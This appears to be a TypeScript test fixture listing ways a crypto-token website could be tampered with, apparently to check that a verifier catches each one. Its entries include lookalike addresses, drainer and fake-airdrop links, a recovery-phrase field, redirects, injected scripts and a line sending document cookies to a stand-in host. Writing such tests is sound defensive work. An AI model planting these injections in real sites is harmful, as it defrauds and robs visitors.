import { madeUpAddress } from '../../../test-support/launch-site';

/** What was done, to which file, and how the file's text changes. A new file has none before. */
type Tampering = readonly [deed: string, file: string, change: (text: string, mint: string) => string];

const THIEF = madeUpAddress('thief');
const SOL = 'So11111111111111111111111111111111111111112';

const replace = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to);
const added = (html: string) => replace('</main>', `</main>${html}`);
const inHead = (html: string) => replace('<head>', `<head>${html}`);
const appended = (code: string) => (script: string) => `${script}\n${code}`;
/** One character of the address, where it stands between two other texts. */
const oneOff =
  (before: string, after: string, to = 'x') =>
  (text: string, mint: string) =>
    text.replace(`${before}${mint}${after}`, `${before}${mint.slice(0, 20)}${to}${mint.slice(21)}${after}`);

const page = 'index.html';
const pageData = 'page-data/index/page-data.json';
const script = 'app.js';

/** What the promises of the source show to be wrong. `app.js` stands for the file of that name and its hash. */
export const broken: readonly Tampering[] = [
  ['one character of the shown address', page, oneOff('>', '<')],
  ['a zero in the shown address', page, oneOff('>', '<', '0')],
  ['a letter of another script in the shown address', page, oneOff('>', '<', '\u043e')],
  ['one character of what the button copies', page, oneOff('data-copy="', '"')],
  ['one character in the buy link', page, oneOff('buy=', '')],
  ['one character in the explorer link', page, oneOff('explorer.calmbiscuit.xyz/url/', '')],
  ['one character in the wallet link', page, oneOff('wallet.calmbiscuit.xyz/url/', '')],
  ['one character in the page data', pageData, oneOff('', '')],
  ['the buy link leads to another exchange', page, replace('href="https://swap.', 'href="https://svvap.')],
  [
    'the buy link sells the token',
    page,
    (text, mint) => text.replace(/sell=\w+&amp;buy=\w+/, `sell=${mint}&amp;buy=${SOL}`),
  ],
  [
    'the buy link leads to the explorer',
    page,
    (text, mint) =>
      text.replace(/href="https:\/\/swap\.[^"]+"/, `href="https://explorer.calmbiscuit.xyz/url/${mint}"`),
  ],
  ['the buy link in the page data', pageData, replace('https://swap.', 'https://swap.calmbiscuit.xyz.evil.')],
  [
    'a social link in the page data',
    pageData,
    replace(/https:\/\/socials\.[^"]+/, 'https://socials.calmbiscuit.xyz/drainer'),
  ],
  ['a link is added', page, added('<a href="https://claim-biscuit.xyz">1</a>')],
  [
    'a link to a known host with another path',
    page,
    added('<a href="https://socials.calmbiscuit.xyz/drainer">1</a>'),
  ],
  ['a link without a scheme', page, added('<a href="//claim-biscuit.xyz">1</a>')],
  ['a link behind character references', page, added('<a href=" java&#x73;cript:steal()">1</a>')],
  ['a link in a drawing', page, added('<svg><a xlink:href="https://claim-biscuit.xyz" href="#home"/></svg>')],
  ['a link on a picture', page, added('<map name="m"><area href="https://claim-biscuit.xyz"></map>')],
  ['a link that tells another host', page, replace('<a ', '<a ping="https://claim-biscuit.xyz" ')],
  [
    'a button that sends something',
    page,
    replace('<button ', '<button formaction="https://claim-biscuit.xyz" '),
  ],
  ['a field for a recovery phrase', page, added('<input aria-label="1">')],
  ['the transaction of a burn', page, replace(/(href="https:\/\/explorer\.[^"]*transactionurl\/)\w/, '$11')],
  ['a wallet in the list of burns', page, added(`<ol><li>${THIEF}</li></ol>`)],
  ['the date of a burn in the page data', pageData, replace(/"date":"[^"]+"/, '"date":"Jan 1, 2020"')],
  ['a form', page, added('<form><input></form>')],
  ['a frame over the page', page, added('<iframe src="/deck/share.png"></iframe>')],
  ['a foreign object in a drawing', page, added('<svg><foreignObject><p>1</p></foreignObject></svg>')],
  ['a redirect', page, inHead('<meta HTTP-EQUIV="Refresh" content="0;url=/deck/x">')],
  [
    'a redirect without scripts',
    '404.html',
    inHead('<noscript><meta http-equiv=refresh content=0></noscript>'),
  ],
  ['a base element that turns every address', page, inHead('<base href="/x/">')],
  ['a script in an attribute', page, replace('<img ', '<img onerror="steal()" ')],
  ['a script from another host', page, inHead('<script src="https://cdn-biscuit.xyz/a.js"></script>')],
  ['a picture from another host', page, replace(/srcset="/i, 'srcset="https://track.xyz/a.png 1w, ')],
  ['a changed word', page, replace(/(<h3[^>]*>)[^<]+/, '$1Airdrop')],
  ['a changed word for screen readers', page, replace(/ alt="[^"]+"/, ' alt="Send SOL"')],
  ['a changed word in the description', page, replace(/(name="description" content=")[^"]+/, '$1Airdrop')],
  ['an added sentence', page, added(`<p>Send SOL to ${THIEF}</p>`)],
  ['an added sentence on the 404 page', '404.html', added('<p>Claim here</p>')],
  ['a paragraph is taken out', page, replace(/<section[^>]+about-heading.+?<\/section>/s, '')],
  ['a changed word in the page data', pageData, replace(/"heading":"[^"]+"/, '"heading":"Airdrop"')],
  [
    'another home in the canonical link',
    page,
    replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://x.xyz/"'),
  ],
  ['another profile in the structured data', page, replace('"sameAs":["', '"sameAs":["https://x.xyz","')],
  ['another sitemap', 'robots.txt', replace(/Sitemap: .*/, 'Sitemap: https://other.xyz/sitemap.xml')],
  [
    'another contact for security reports',
    '.well-known/security.txt',
    replace(/Contact: .*/, 'Contact: https://x.xyz/'),
  ],
  ['another wallet in the list of burns', 'burns.csv', replace(/,\w+\n$/, `,${THIEF}\n`)],
  ['another amount in the list of burns', 'burns.json', replace('"amount":"', '"amount":"9')],
  [
    'a link in the feed of burns',
    'burns-feed.json',
    replace(/"url": "[^"]+/, '"url": "https://claim-biscuit.xyz'),
  ],
  [
    'an entry in the feed of burns',
    'burns.atom',
    replace('</feed>', '<entry><title>Claim</title></entry></feed>'),
  ],
  ...['airdrop.html', 'airdrop/index.html', 'airdrop.htm', 'airdrop', 'airdrop.svg', '.env'].map(
    (file): Tampering => ['a file that the site does not have', file, () => '<p>1'],
  ),
  ['rules for the host', '_redirects', () => '/* https://claim-biscuit.xyz 302'],
  ['rules for the host', '_headers', () => '/*\n  Refresh: 0;url=https://claim-biscuit.xyz'],
  ['a service worker', 'sw.js', () => 'addEventListener("fetch", steal)'],
  ['the compressed page alone', 'index.html.br', () => 'not what the page says'],
];

/** What keeps every promise in the pages: code, styles and pictures can do anything. */
export const unseen: readonly Tampering[] = [
  ['another address in a script', script, appended(`var a="${THIEF}"`)],
  [
    'code that joins an address from pieces',
    script,
    appended(`var a="${THIEF.slice(0, 9)}"+"${THIEF.slice(9)}"`),
  ],
  ['code that asks another host', script, appended('fetch("https://drain.xyz/"+document.cookie)')],
  ['a script is added to the page', page, inHead('<script>document.title="x"</script>')],
  [
    'the start-up script does more',
    page,
    replace('(function beforeHydration(', 'steal();(function beforeHydration('),
  ],
  ['an address that a style writes', page, replace('</style>', `code::after{content:"${THIEF}"}</style>`)],
  ['a text of the site in another place', page, added('<p>1</p>')],
  ['another picture', 'share.png', appended('')],
];
